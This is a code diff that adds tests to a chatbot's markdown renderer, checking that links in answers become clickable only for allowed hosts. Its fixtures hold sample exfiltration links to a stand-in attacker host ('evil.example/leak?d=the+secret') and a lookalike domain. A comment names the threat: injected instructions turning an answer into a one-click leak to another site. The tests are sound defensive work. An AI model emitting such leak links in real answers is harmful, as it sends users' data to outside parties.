@@ -13,7 +13,8 @@ async (cases) => {
   const { renderMarkdown } = await import('/static/chatbot/markdown.js');
   return cases.map((text) => {
     const box = document.createElement('div');
-    box.appendChild(renderMarkdown(text, { citationHref: (n) => `#source-${n}` }));
+    const linkHosts = ['docs.wagtail.org', '.example.org'];
+    box.appendChild(renderMarkdown(text, { citationHref: (n) => `#source-${n}`, linkHosts }));
     return box.innerHTML;
   });
 }
@@ -38,6 +39,11 @@ CASES = {
     "code_block": "```html\n<b>not bold</b>\n```",
     "citations": "Backups run hourly [1] and are copied [2, 3].",
     "bare_url": "See https://example.org/path.",
+    "subdomain_link": "[api](https://api.example.org/v1)",
+    "offsite_link": "[the guide](https://evil.example/leak?d=the+secret)",
+    "offsite_autolink": "<https://evil.example/leak?d=x>",
+    "offsite_bare_url": "See https://evil.example/leak?d=x now",
+    "lookalike_host": "[docs](https://docs.wagtail.org.evil.example/)",
 }
 
 
@@ -108,3 +114,16 @@ def test_citation_markers_link_to_source_cards(rendered) -> None:
     assert rendered["citations"] == (
         f"<p>Backups run hourly {cite.format(n=1)} and are copied {cite.format(n=2)} {cite.format(n=3)}.</p>"
     )
+
+
+def test_links_to_other_sites_are_text(rendered) -> None:
+    # Only this site and the allowed hosts (CHATBOT_ANSWER_LINK_HOSTS) become links: an injected
+    # instruction cannot turn the conversation into a one-click request to another site.
+    assert rendered["subdomain_link"] == (
+        '<p><a href="https://api.example.org/v1" rel="noopener noreferrer nofollow" '
+        'target="_blank">api</a></p>'
+    )
+    assert rendered["offsite_link"] == "<p>the guide</p>"
+    assert rendered["offsite_autolink"] == "<p>&lt;https://evil.example/leak?d=x&gt;</p>"
+    assert rendered["offsite_bare_url"] == "<p>See https://evil.example/leak?d=x now</p>"
+    assert rendered["lookalike_host"] == "<p>docs</p>"
